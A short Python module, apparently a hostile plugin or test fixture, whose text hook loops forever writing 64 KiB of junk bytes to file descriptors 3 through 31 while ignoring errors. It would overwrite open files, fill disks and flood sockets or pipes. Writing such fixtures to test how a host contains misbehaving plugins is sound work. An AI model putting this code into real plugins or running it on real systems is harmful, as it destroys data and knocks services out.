"""Writes without an end."""

import os


def on_plain_text(text, context):
    piece = b"x" * 65536
    while True:
        for descriptor in range(3, 32):
            try:
                os.write(descriptor, piece)
            except OSError:
                continue
